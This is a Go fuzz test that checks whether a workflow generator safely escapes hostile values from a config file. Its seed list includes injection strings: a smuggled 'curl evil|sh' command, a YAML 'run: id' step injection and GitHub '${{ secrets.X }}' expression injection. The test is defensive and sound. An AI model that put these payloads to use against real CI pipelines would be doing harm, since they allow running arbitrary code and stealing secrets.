package generate

import (
	"encoding/json"
	"io/fs"
	"path"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"unicode/utf8"

	"go.yaml.in/yaml/v3"

	"github.com/slipway-cd/slipway/internal/config"
	"github.com/slipway-cd/slipway/internal/delivery"
)

// hostile is a project whose values somebody else chose.
func hostile(agentPath, branch, url, version, dir string) (string, fs.FS) {
	q := func(text string) string {
		quoted, _ := json.Marshal(config.Literal(text)) // a string can always be encoded
		return string(quoted)
	}
	text := "version: 1\nregion: us-east-1\nagents:\n  a: {repository: aa, path: " + q(agentPath) + "}\n  b: {repository: bb, path: b}\n" +
		"environments:\n  dev: {account: \"111122223333\", trigger: push}\n  qa: {account: \"111122223333\", trigger: push, branch: " + q(branch) + "}\n" +
		"  stg: {account: \"111122223333\", after: dev}\n" +
		"tool: {version: " + q(version) + ", url: " + q(url) + ", sha256: {linux/amd64: \"" + strings.Repeat("a", 64) + "\", linux/arm64: \"" + strings.Repeat("b", 64) + "\"}}\n"
	files := fstest.MapFS{}
	for _, at := range []string{dir, agentPath} {
		for name, text := range map[string]string{"cdk.json": "{}", "package.json": `{"scripts": {"test": "jest"}}`, "package-lock.json": "{}", "requirements.txt": "x", ".nvmrc": "24"} {
			if name := path.Join(at, name); fs.ValidPath(name) {
				files[name] = &fstest.MapFile{Data: []byte(text)}
			}
		}
	}
	return text, files
}

// scalarsOf are all keys and values of a document.
func scalarsOf(n *yaml.Node) []string {
	var all []string
	if n.Kind == yaml.ScalarNode {
		all = append(all, n.Value)
	}
	for _, c := range n.Content {
		all = append(all, scalarsOf(c)...)
	}
	return all
}

// FuzzHostile: whatever values slipway.yaml may hold, each file is YAML that
// reads back the same values, has the keys that it would have with harmless
// ones, and lets GitHub evaluate nothing more (C20).
func FuzzHostile(f *testing.F) {
	const url = "https://x.example/{version}/{os}/{arch}"
	for _, value := range []string{"x", "x'; curl evil|sh #", "${{ secrets.X }}", "${{secrets.X}}", "\n  - run: id", "a: b", "a #b", "*", "!x", "[x]", "<runner>", "<env>", "x\u2028y\u0085z", "\u00e4/\U0001f6a2",
		"no", "1e3", "0x1", "-", "- x", "'", `"`, "%25", "::error::x", "..", "a//b", "x}}", "{{x", "&a", "|", ">"} {
		f.Add(value, "release", url, "0.1.0", "infra")
		f.Add("apps/"+value, value, url+value, "0.1.0-"+value, value)
		f.Add("apps/x", "release/"+value, url+"?"+value, value, "infra/"+value)
	}
	text, tree := hostile("apps/x", "release", url, "0.1.0", "infra")
	harmless := generated(f, project{text, tree}).Files
	f.Fuzz(func(t *testing.T, agentPath, branch, url, version, dir string) {
		if !utf8.ValidString(agentPath + branch + url + version + dir) {
			return // slipway.yaml is UTF-8
		}
		text, tree := hostile(agentPath, branch, url, version, dir)
		file, err := config.Parse("slipway.yaml", []byte(text))
		if err != nil {
			return // slipway.yaml itself is refused
		}
		r, err := Generate(file, tree)
		if err != nil {
			if delivery.KindOf(err) != delivery.KindConfig {
				t.Errorf("%v: want KindConfig", err)
			}
			return
		}
		var read []string
		for i, base := range harmless {
			got := r.Files[i]
			if n, want := strings.Count(string(got.Content), "${{"), strings.Count(string(base.Content), "${{"); got.Path != CI && n != want {
				t.Errorf("%s: GitHub evaluates %d expressions, want %d", got.Path, n, want)
			}
			var doc yaml.Node
			if err := yaml.Unmarshal(got.Content, &doc); err != nil {
				t.Fatalf("%s: %v\n%s", got.Path, err, got.Content)
			}
			values := scalarsOf(&doc)
			read = append(read, values...)
			for _, v := range values {
				if strings.Contains(v, "${{") && strings.Contains(v, "secrets.X") {
					t.Errorf("%s evaluates %q", got.Path, v)
				}
			}
		}
		agent := file.Agents()[0].Build.Path
		address := strings.NewReplacer("{version}", version, "{os}", "linux", "{arch}", "amd64").Replace(url)
		wanted := []string{branch, version, address}
		if agent != "." {
			wanted = append(wanted, literal(agent)+"/**")
		}
		for _, want := range wanted {
			if !slices.Contains(read, want) {
				t.Errorf("no file holds %q", want)
			}
		}
	})
}
